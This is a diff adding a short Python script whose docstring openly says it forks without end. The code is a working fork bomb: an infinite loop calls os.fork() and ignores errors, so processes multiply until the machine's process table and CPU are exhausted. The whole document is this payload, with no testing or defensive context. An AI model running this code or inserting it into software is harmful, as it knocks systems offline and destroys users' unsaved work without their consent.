@@ -1,0 +1,9 @@
+"""Forks, and so does every child, without end."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
